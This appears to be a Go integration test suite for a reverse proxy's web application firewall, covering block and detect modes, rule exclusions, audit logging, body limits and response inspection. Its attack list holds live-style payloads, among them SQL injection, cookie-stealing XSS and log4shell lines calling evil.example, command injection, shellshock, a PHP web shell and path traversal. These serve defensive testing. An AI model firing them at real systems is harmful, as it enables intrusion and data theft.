package test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// wafTpl puts routers before one server: /guarded behind the CRS in block
// mode, /watched in detect mode (the two share one compiled rule set),
// /search with the SQL injection rules excluded (its queries are SQL by
// design) and an own rule, /upload with a small body limit, /leaky with
// response inspection.
const wafTpl = `
entrypoints:
  web: { address: "127.0.0.1:0" }
admin: { address: "127.0.0.1:0" }
log: { level: info, format: json }
http:
  routers:
    guarded: { rule: "PathPrefix(` + "`/guarded`" + `)", middlewares: [waf], service: app }
    watched: { rule: "PathPrefix(` + "`/watched`" + `)", middlewares: [watch], service: app }
    search:  { rule: "PathPrefix(` + "`/search`" + `)", middlewares: [sqlok], service: app }
    upload:  { rule: "PathPrefix(` + "`/upload`" + `)", middlewares: [small], service: app }
    leaky:   { rule: "PathPrefix(` + "`/leaky`" + `)", middlewares: [outbound], service: app }
  middlewares:
    small:    { waf: { requestBodyLimit: 1KiB } }
    outbound: { waf: { responseInspection: true } }
    waf:   { waf: { paranoiaLevel: 1, mode: block } }
    watch: { waf: { paranoiaLevel: 1, mode: detect } }
    sqlok: { waf: { paranoiaLevel: 1, mode: block, excludeTags: [attack-sqli],
                    rules: ["SecRule ARGS:debug \"@streq 1\" \"id:10001,phase:1,deny,status:403,msg:'debug is off here'\""] } }
  services:
    app: { loadBalancer: { servers: [ { url: "{{be}}" } ] } }
`

type wafCase struct {
	name, method, path, ctype, body string
	header                          map[string]string
}

func (c wafCase) send(t *testing.T, base string) (int, string) {
	t.Helper()
	method := c.method
	if method == "" {
		method = http.MethodGet
		if c.body != "" {
			method = http.MethodPost
		}
	}
	var body io.Reader
	if c.body != "" {
		body = strings.NewReader(c.body)
	}
	req, err := http.NewRequest(method, base+c.path, body)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0")
	req.Header.Set("Accept", "text/html,application/json;q=0.9,*/*;q=0.8")
	req.Header.Set("Accept-Language", "en-GB,en;q=0.5")
	if c.ctype != "" {
		req.Header.Set("Content-Type", c.ctype)
	}
	for k, v := range c.header {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s: %v", c.name, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// attacks are real payloads in each place a client can put them.
var wafAttacks = []wafCase{
	{name: "sqli in the query", path: "?id=" + url.QueryEscape("1' UNION SELECT username, password FROM users--")},
	{name: "xss in the query", path: "?q=" + url.QueryEscape(`"><script>fetch('//evil.example/'+document.cookie)</script>`)},
	{name: "path traversal", path: "?file=" + url.QueryEscape("../../../../etc/passwd")},
	{name: "command injection in a form", ctype: "application/x-www-form-urlencoded", body: "host=" + url.QueryEscape("127.0.0.1; cat /etc/passwd")},
	{name: "xss in a form", ctype: "application/x-www-form-urlencoded", body: "comment=" + url.QueryEscape("<img src=x onerror=alert(document.domain)>")},
	{name: "sqli in a JSON body", ctype: "application/json", body: `{"user":"admin' OR '1'='1' -- ","password":"hunter2"}`},
	{name: "php code in a JSON body", method: http.MethodPut, ctype: "application/json", body: `{"bio":"<?php system($_GET['c']); ?>"}`},
	{name: "log4shell in a header", header: map[string]string{"X-Api-Version": "${jndi:ldap://evil.example/a}"}},
	{name: "shellshock in the user agent", header: map[string]string{"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}},
	{name: "sqli in a cookie", header: map[string]string{"Cookie": "uid=" + url.QueryEscape("1' OR 1=1--")}},
}

// wafBenign is traffic that must pass, quotes and angle brackets included.
var wafBenign = []wafCase{
	{name: "a page", path: "/products/42?ref=home"},
	{name: "a search", path: "?q=" + url.QueryEscape(`shoes <size 10> for "trail running"`)},
	{name: "a form", ctype: "application/x-www-form-urlencoded", body: "name=" + url.QueryEscape("Ann O'Neil") + "&message=" + url.QueryEscape("Is the shop open on Sunday? I'd like to pick up order #1234.")},
	{name: "a JSON order", ctype: "application/json", body: `{"items":[{"sku":"A-100","qty":2}],"note":"Leave it at the door & ring twice"}`},
	{name: "a JSON update", method: http.MethodPatch, ctype: "application/json", body: `{"display_name":"José Álvarez","theme":"dark"}`},
	{name: "an API call with a token", path: "/api/me", header: map[string]string{"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl"}},
}

// TestWAFThroughUsher: attacks in the query, a form, a JSON body and headers
// get 403 and never reach the server; benign traffic passes whole; detect
// mode lets attacks through and logs them; exclusions are per router; the
// audit log names rules and variables, never values; the decisions are
// counted.
func TestWAFThroughUsher(t *testing.T) {
	var hits atomic.Int64
	be := backendFunc(t, func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		b, _ := io.ReadAll(r.Body)
		io.WriteString(w, "got "+string(b))
	})
	u := startUsher(t, config(wafTpl, "be", be.URL))

	for _, c := range wafAttacks {
		before := hits.Load()
		st, body := c.send(t, u.url("web")+"/guarded")
		if st != 403 || !strings.Contains(body, "web application firewall") {
			t.Errorf("%s: status %d %q, want 403", c.name, st, body)
		}
		if hits.Load() != before {
			t.Errorf("%s: reached the server", c.name)
		}
		// Detect mode: the same attack passes, body and all.
		if st, body := c.send(t, u.url("web")+"/watched"); st != 200 || body != "got "+c.body {
			t.Errorf("%s in detect mode: status %d %q, want 200 and the body", c.name, st, body)
		}
	}
	for _, c := range wafBenign {
		if st, body := c.send(t, u.url("web")+"/guarded"); st != 200 || body != "got "+c.body {
			t.Errorf("%s: status %d %q, want 200 and the body", c.name, st, body)
		}
	}

	// Exclusions are the router's: SQL passes on /search, XSS does not,
	// and the own rule applies.
	sql := wafCase{name: "sql on /search", path: "?q=" + url.QueryEscape("1' UNION SELECT username, password FROM users--")}
	if st, _ := sql.send(t, u.url("web")+"/search"); st != 200 {
		t.Errorf("sql on the router that excludes it: %d", st)
	}
	if st, _ := wafAttacks[1].send(t, u.url("web")+"/search"); st != 403 {
		t.Errorf("xss on the router that excludes sqli only: %d", st)
	}
	if st, _ := (wafCase{name: "debug", path: "?debug=1"}).send(t, u.url("web")+"/search"); st != 403 {
		t.Errorf("the own rule: %d", st)
	}

	// The audit log: one warn line per refusal, with the rules and the
	// variables' names, never a value.
	secret := wafCase{name: "secrets", ctype: "application/json",
		body:   `{"user":"admin' OR '1'='1' -- ","password":"pw-secret-4242"}`,
		header: map[string]string{"Cookie": "session=cookie-secret-4242", "Authorization": "Bearer token-secret-4242"}}
	if st, _ := secret.send(t, u.url("web")+"/guarded/login?next=query-secret-4242"); st != 403 {
		t.Fatalf("secrets: status %d", st)
	}
	deadline := time.Now().Add(5 * time.Second)
	var blocked, detected []logLine
	for time.Now().Before(deadline) {
		blocked, detected = nil, nil
		for _, line := range strings.Split(u.logText(), "\n") {
			var l logLine
			if json.Unmarshal([]byte(line), &l) != nil {
				continue
			}
			switch l.msg() {
			case "waf: request blocked":
				blocked = append(blocked, l)
			case "waf: request detected":
				detected = append(detected, l)
			}
		}
		if len(blocked) >= len(wafAttacks)+3 && len(detected) >= len(wafAttacks) {
			break
		}
		time.Sleep(20 * time.Millisecond) // the log is read from a pipe
	}
	if len(blocked) != len(wafAttacks)+3 || len(detected) != len(wafAttacks) {
		t.Fatalf("%d blocked and %d detected lines, want %d and %d", len(blocked), len(detected), len(wafAttacks)+3, len(wafAttacks))
	}
	last := blocked[len(blocked)-1]
	if last["level"] != "WARN" || last["middleware"] != "waf" || last["clientIP"] != "127.0.0.1" || last["path"] != "/guarded/login" || last["requestId"] == "" {
		t.Errorf("log line %v", last)
	}
	raw, _ := json.Marshal(last["rules"])
	if !strings.Contains(string(raw), `"id":942100`) || !strings.Contains(string(raw), "json.user") {
		t.Errorf("rules %s: want libinjection's 942100 on json.user", raw)
	}
	for _, s := range []string{"pw-secret", "cookie-secret", "token-secret", "query-secret", "OR '1'='1"} {
		if strings.Contains(u.logText(), s) {
			t.Errorf("usher's log holds %q", s)
		}
	}

	_, metrics := get(t, "http://"+u.addrs["admin"]+"/metrics")
	for _, want := range []string{
		`usher_middleware_decisions_total{kind="waf",middleware="waf",result="deny"} 11`,
		`usher_middleware_decisions_total{kind="waf",middleware="waf",result="allow"} 6`,
		`usher_middleware_decisions_total{kind="waf",middleware="watch",result="detect"} 10`,
		`usher_middleware_decisions_total{kind="waf",middleware="sqlok",result="deny"} 2`,
	} {
		if !strings.Contains(metrics, want+"\n") {
			t.Errorf("metrics lack %s", want)
		}
	}

	// Five middlewares, four distinct settings (waf and watch differ in
	// their mode only): four compiles.
	if n := strings.Count(u.logText(), `"msg":"waf: rule set compiled"`); n != 4 {
		t.Errorf("%d rule sets compiled at start, want 4", n)
	}
	// A reload that changes nothing of the rule sets (a router added, a
	// middleware renamed) keeps them: nothing is compiled, and it blocks.
	next := strings.Replace(config(wafTpl, "be", be.URL), "watch: { waf:", "watching: { waf:", 1)
	next = strings.Replace(next, "middlewares: [watch]", "middlewares: [watching]", 1)
	next = strings.Replace(next, "  middlewares:\n", "    more: { rule: \"PathPrefix(`/more`)\", middlewares: [waf], service: app }\n  middlewares:\n", 1)
	if v := u.rewrite(next); v.msg() != "configuration applied" {
		t.Fatalf("reload: %v", v)
	}
	if n := strings.Count(u.logText(), `"msg":"waf: rule set compiled"`); n != 4 {
		t.Errorf("%d rule sets compiled after the reload, want still 4", n)
	}
	for _, p := range []string{"/guarded", "/more"} {
		if st, _ := wafAttacks[0].send(t, u.url("web")+p); st != 403 {
			t.Errorf("%s after the reload: %d", p, st)
		}
	}
	if st, _ := wafAttacks[0].send(t, u.url("web")+"/watched"); st != 200 {
		t.Errorf("the renamed detect middleware after the reload: %d", st)
	}
}

// TestWAFBodiesThroughUsher: a body over requestBodyLimit gets 413 and
// never reaches the server, one under it passes whole; with
// responseInspection a page that leaks SQL errors is replaced by a 403,
// and a clean page passes.
func TestWAFBodiesThroughUsher(t *testing.T) {
	var hits atomic.Int64
	be := backendFunc(t, func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		b, _ := io.ReadAll(r.Body)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if r.URL.Query().Get("leak") == "yes" {
			io.WriteString(w, "<html><body>Warning: mysql_fetch_array() expects parameter 1 to be resource, boolean given in /var/www/html/index.php on line 12<br>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</body></html>")
			return
		}
		io.WriteString(w, "got "+string(b))
	})
	u := startUsher(t, config(wafTpl, "be", be.URL))
	form := "application/x-www-form-urlencoded"
	long := wafCase{name: "long", ctype: form, body: "notes=" + strings.Repeat("x", 2048)}
	short := wafCase{name: "short", ctype: form, body: "notes=" + strings.Repeat("x", 512)}
	before := hits.Load()
	if st, _ := long.send(t, u.url("web")+"/upload"); st != 413 || hits.Load() != before {
		t.Errorf("a body over the limit: %d (server reached: %v)", st, hits.Load() != before)
	}
	if st, body := short.send(t, u.url("web")+"/upload"); st != 200 || body != "got "+short.body {
		t.Errorf("a body under the limit: %d", st)
	}
	if st, body := (wafCase{name: "leak"}).send(t, u.url("web")+"/leaky?leak=yes"); st != 403 || strings.Contains(body, "mysql") {
		t.Errorf("a leaking page: %d %q", st, body)
	}
	if st, body := (wafCase{name: "page"}).send(t, u.url("web")+"/leaky"); st != 200 || body != "got " {
		t.Errorf("a clean page: %d %q", st, body)
	}
	// The same leak on a router without response inspection passes.
	if st, _ := (wafCase{name: "leak"}).send(t, u.url("web")+"/guarded?leak=yes"); st != 200 {
		t.Errorf("response inspection is off by default: %d", st)
	}
}

// TestWAFRuleErrors: an own rule that does not compile is a config error
// that names the middleware and the entry, for usher validate and for a
// reload, which keeps the running config.
func TestWAFRuleErrors(t *testing.T) {
	bad := strings.Replace(wafTpl, `"SecRule ARGS:debug \"@streq 1\" \"id:10001,phase:1,deny,status:403,msg:'debug is off here'\""`,
		`"SecRule ARGS:debug \"@streq 1\" \"id:10001,phase:1,deny\"", "SecRule ARGS \"@rx (\" \"id:10002,phase:2,deny\""`, 1)
	if bad == wafTpl {
		t.Fatal("template not changed")
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "usher.yaml")
	os.WriteFile(path, []byte(config(bad, "be", "http://127.0.0.1:9")), 0o644)
	out, err := exec.Command(usherBin, "validate", "-c", path).CombinedOutput()
	if err == nil {
		t.Fatalf("validate passed: %s", out)
	}
	for _, want := range []string{"http.middlewares.sqlok.waf", "rules[1]", "error parsing regexp"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("validate says %q, without %q", out, want)
		}
	}

	be := backend(t, "app")
	u := startUsher(t, config(wafTpl, "be", be.URL))
	v := u.rewrite(config(bad, "be", be.URL))
	if !strings.HasPrefix(v.msg(), "configuration refused") || !strings.Contains(u.logText(), "rules[1]") {
		t.Fatalf("reload verdict %v", v)
	}
	if st, _ := wafAttacks[0].send(t, u.url("web")+"/guarded"); st != 403 {
		t.Errorf("the running config after a refused reload: %d", st)
	}
}
